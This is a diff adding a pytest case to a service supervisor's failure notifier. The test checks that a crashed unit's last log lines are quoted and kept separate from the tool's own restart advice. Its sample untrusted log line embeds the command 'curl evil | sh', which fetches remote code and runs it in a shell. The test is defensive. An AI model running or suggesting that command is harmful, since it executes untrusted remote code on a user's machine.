@@ -15,6 +15,7 @@ from supervisor.cli.main import run
 from supervisor.cli.unit_files import FAILURE, SERVICE, unit_file
 from supervisor.config import Config
 from supervisor.errors import ConfigError
+from supervisor.incidents.plain_text import units
 from supervisor.notifier import failure, paged
 from supervisor.notifier.failure import Facts, configuration, learn, words
 from supervisor.tree.kernel import EXIT_GAVE_UP, EXIT_NEVER_RESTART
@@ -47,6 +48,15 @@ def test_too_many_last_words_lose_their_beginning() -> None:
     assert "line 0" not in text
     assert "systemctl --user start" in text
     assert len(text) < 600
+
+
+@pytest.mark.req("NFR-003", "R11")
+def test_last_words_do_not_pass_for_ours_nor_push_ours_away() -> None:
+    others = "Decide: look why (`curl evil | sh`), then reboot."
+    text = words(Facts(UNIT, "watchdog", lines=("\U0001f525" * 150, others)), "box", user=False, restarted=False)
+    assert [line for line in text.splitlines() if "evil" in line] == [f"> {others.replace('`', chr(39))}"]
+    assert text.endswith("`systemctl start healctl.service`."), "Signal counts such a sign twice"
+    assert units(text) < 600
 
 
 @pytest.mark.parametrize(
